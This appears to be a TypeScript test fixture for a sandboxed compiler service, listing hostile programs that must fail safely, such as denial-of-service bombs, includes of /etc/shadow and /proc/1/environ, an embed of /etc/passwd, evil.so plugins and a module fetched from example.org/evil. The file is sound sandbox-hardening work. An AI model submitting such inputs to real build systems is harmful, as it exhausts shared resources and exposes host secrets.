import { ALL_LANGUAGES, C, NATIVE, PYTHON, SCRIPTS, type AttackLanguage } from './attack.js';

/** A program that its compiler must reject, or that must be stopped. */
export interface CompileAttack {
  readonly row: number;
  readonly name: string;
  readonly languages: readonly AttackLanguage[];
  readonly text: string | Buffer;
  readonly files?: Readonly<Record<string, string>>;
  /** The message that the learner must get. */
  readonly says: RegExp;
}

const STOPPED = /stopped by (?:its time|the memory) limit|stopped because it printed too much/;
const doubled = (times: number): string =>
  Array.from({ length: times }, (_, n) => `#define X${n + 1} X${n} X${n}\n`).join('');

const PARSERS: readonly CompileAttack[] = [
  {
    row: 8,
    name: 'nothing that the language knows',
    languages: ALL_LANGUAGES,
    text: '%%% ((( """ \n',
    says: /./,
  },
  {
    row: 8,
    name: 'brackets nested without end',
    languages: [...SCRIPTS, 'go', 'ruby'],
    text: '('.repeat(100_000),
    says: /./,
  },
  {
    row: 8,
    name: 'signs before a number without end',
    languages: PYTHON,
    text: `x = ${'-'.repeat(200_000)}1\n`,
    says: /nested|complex|recursion|memory|stopped/i,
  },
  {
    row: 8,
    name: 'an error in a line as long as a book',
    languages: PYTHON,
    text: `x = "${'y'.repeat(200_000)}" $\n`,
    says: /SyntaxError|printed too much/,
  },
  {
    row: 8,
    name: 'bytes that are no text',
    languages: PYTHON,
    text: Buffer.from('x = "\xff\xfe\0"\n', 'latin1'),
    says: /./,
  },
  {
    row: 8,
    name: 'an encoding that unpacks itself',
    languages: PYTHON,
    text: '# coding: zlib_codec\nx\n',
    says: /encoding|codec/,
  },
  {
    row: 8,
    name: 'a device in the place of a module',
    languages: ['typescript'],
    text: 'import x from "/dev/zero";\nconsole.log(x);\n',
    says: /./,
  },
  {
    row: 8,
    name: 'a device in the place of settings',
    languages: ['typescript'],
    text: 'console.log(1 as;\n',
    files: { 'tsconfig.json': '{"extends": "/dev/zero"}' },
    says: /./,
  },
];

const PREPROCESSOR: readonly CompileAttack[] = [
  {
    row: 8,
    name: 'a file that includes itself',
    languages: NATIVE,
    text: '#include "main.h"\nint main(void) { return 0; }\n',
    files: { 'main.h': '#include "main.h"\n#include "main.h"\n' },
    says: /nested depth|too deeply|stopped/,
  },
  {
    row: 8,
    name: 'an endless device that is included',
    languages: NATIVE,
    text: '#include "/dev/zero"\nint main(void) { return 0; }\n',
    says: STOPPED,
  },
  {
    row: 8,
    name: 'random bytes without end that are included',
    languages: C,
    text: '#include "/dev/urandom"\nint main(void) { return 0; }\n',
    says: /./,
  },
  {
    row: 8,
    name: 'a stream that is included and never ends',
    languages: C,
    text: '#include "/dev/fd/1"\nint main(void) { return 0; }\n',
    says: /./,
  },
  {
    row: 8,
    name: 'an endless device as data of the assembler',
    languages: C,
    text: '__asm__(".incbin \\"/dev/zero\\"");\nint main(void) { return 0; }\n',
    says: /./,
  },
  {
    row: 8,
    name: 'secrets of the host that are included',
    languages: C,
    text: '#include "/proc/1/environ"\n#include "/etc/shadow"\nint main(void) { return 0; }\n',
    says: /Permission denied/,
  },
  {
    row: 8,
    name: 'a macro that doubles forty times',
    languages: NATIVE,
    text: `#define X0 1,\n${doubled(40)}int x[] = { X40 };\nint main(void) { return 0; }\n`,
    says: STOPPED,
  },
  {
    row: 8,
    name: 'a line of the assembler that repeats itself',
    languages: C,
    text: '__asm__(".rept 2000000000\\n.quad 1\\n.endr");\nint main(void) { return 0; }\n',
    says: /./,
  },
  {
    row: 8,
    name: 'a program larger than any disk',
    languages: C,
    text: 'char big[1ul << 36] = {1};\nint main(void) { return 0; }\n',
    says: /./,
  },
  {
    row: 8,
    name: 'errors without end',
    languages: NATIVE,
    text: `${'$ undefined + ; '.repeat(14_000)}\n`,
    says: /./,
  },
  {
    row: 8,
    name: 'a command of its own for the linker',
    languages: C,
    text: '__asm__(".section .drectve");\n#pragma comment(linker, "-plugin=/work/evil.so")\nint main(void) { return missing(); }\n',
    says: /missing/,
  },
];

const TEMPLATES: readonly CompileAttack[] = [
  {
    row: 8,
    name: 'templates that need each other twice over',
    languages: ['cpp'],
    text: 'template<int N, int M> struct S { static constexpr int v = S<N - 1, 2 * M>::v + S<N - 1, 2 * M + 1>::v; };\ntemplate<int M> struct S<0, M> { static constexpr int v = M; };\nint main() { return S<26, 0>::v; }\n',
    says: STOPPED,
  },
  {
    row: 8,
    name: 'a template without an end',
    languages: ['cpp'],
    text: 'template<int N> struct S { static constexpr int v = S<N + 1>::v; };\nint main() { return S<0>::v; }\n',
    says: /depth|stopped/,
  },
  {
    row: 8,
    name: 'a loop that the compiler runs',
    languages: ['cpp'],
    text: 'constexpr long f() { long n = 0; for (;;) n = n * 3 % 7; return n; }\nconstexpr long v = f();\nint main() { return v; }\n',
    says: /constexpr|stopped/,
  },
  {
    row: 8,
    name: 'a sum that the compiler does the long way',
    languages: ['cpp'],
    text: 'constexpr long f() { long s = 0; for (int i = 0; i < 9000; i++) for (int j = 0; j < 9000; j++) s += i ^ j; return s; }\nconstexpr long v = f();\nint main() { return v; }\n',
    says: /constexpr|stopped/,
  },
];

const MACHINES: readonly CompileAttack[] = [
  {
    row: 8,
    name: 'sums nested without end',
    languages: ['java'],
    text: `class Main { static int x = ${'1 + ('.repeat(20_000)}1${')'.repeat(20_000)}; public static void main(String[] a) {} }\n`,
    says: /./,
  },
  {
    row: 8,
    name: 'a text that doubles forty times',
    languages: ['java'],
    text: `class Main { static final String X0 = "xxxxxxxx"; ${Array.from({ length: 40 }, (_, n) => `static final String X${n + 1} = X${n} + X${n};`).join(' ')} public static void main(String[] a) {} }\n`,
    says: /./,
  },
  {
    row: 8,
    name: 'an array larger than any memory',
    languages: ['go'],
    text: 'package main\n\nvar x [1 << 50]byte\n\nfunc main() { x[0] = 1 }\n',
    says: /larger than address space/,
  },
  {
    row: 8,
    name: 'a number of a million digits',
    languages: ['go'],
    text: 'package main\n\nconst x = 1 << (1 << 30)\n\nfunc main() { println(x) }\n',
    says: /overflow|too large|invalid/,
  },
  {
    row: 8,
    name: 'files of the host as part of the program',
    languages: ['go'],
    text: 'package main\n\nimport _ "embed"\n\n//go:embed ../../etc/passwd\nvar x string\n\nfunc main() { println(x) }\n',
    says: /invalid pattern|cannot embed/,
  },
  {
    row: 8,
    name: 'a compiler of another language with options of its own',
    languages: ['go'],
    text: 'package main\n\n// #cgo CFLAGS: -fplugin=/box/evil.so\nimport "C"\n\nfunc main() {}\n',
    says: /./,
  },
  {
    row: 8,
    name: 'a module that must be fetched',
    languages: ['go'],
    text: 'package main\n\nimport _ "example.org/evil"\n\nfunc main() {}\n',
    says: /example\.org/,
  },
];

/** Attacks on compilers: each must be a compile error, no matter what it did to the compiler. */
export const COMPILE_ATTACKS: readonly CompileAttack[] = [
  ...PARSERS,
  ...PREPROCESSOR,
  ...TEMPLATES,
  ...MACHINES,
];

/** A good program in each language, to be compiled after each attack. */
export const GOOD: Readonly<Record<AttackLanguage, string>> = {
  python: 'print(42)\n',
  javascript: 'console.log(42);\n',
  typescript: 'console.log(42 as number);\n',
  c: '#include <stdio.h>\nint main(void) { puts("42"); return 0; }\n',
  java: 'class Main { public static void main(String[] args) { System.out.println(42); } }\n',
  go: 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println(42) }\n',
  ruby: 'puts 42\n',
  cpp: '#include <cstdio>\nint main() { std::puts("42"); }\n',
};
